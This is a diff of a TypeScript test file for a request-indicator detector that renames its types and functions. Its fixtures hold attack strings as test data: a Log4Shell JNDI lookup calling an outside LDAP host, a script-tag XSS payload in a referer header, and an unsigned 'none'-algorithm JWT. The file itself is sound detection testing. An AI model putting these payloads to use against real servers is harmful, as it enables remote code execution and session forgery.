@@ -2,9 +2,9 @@ import type { Sign } from '@aera/contracts';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { injectionPatterns } from './injection-patterns.ts';
-import { type Seen, signsOf } from './detect-indicators.ts';
+import { type ObservedRequest, detectIndicators } from './detect-indicators.ts';
 
-const ordinary: Seen = {
+const ordinary: ObservedRequest = {
   method: 'GET',
   target: '/about',
   headers: {},
@@ -14,7 +14,7 @@ const ordinary: Seen = {
   code: null,
   guesses: false,
 };
-const signs = (seen: Partial<Seen>) => signsOf({ ...ordinary, ...seen });
+const signs = (seen: Partial<ObservedRequest>) => detectIndicators({ ...ordinary, ...seen });
 
 describe('the signs of an answer', () => {
   it.each<[string | null, number, string | null, Sign[]]>([
@@ -100,7 +100,7 @@ describe('the signs of an address', () => {
 });
 
 describe('the signs of header fields', () => {
-  it.each<[Seen['headers'], Sign[]]>([
+  it.each<[ObservedRequest['headers'], Sign[]]>([
     [{ 'user-agent': '${jndi:ldap://203.0.113.9/a}' }, ['injection-probe']],
     [{ referer: 'https://x.example/<script>alert(1)</script>' }, ['injection-probe']],
     [{ 'x-aera-identity': 'eyJhbGciOiJub25lIn0.e30.' }, ['forged-token']],
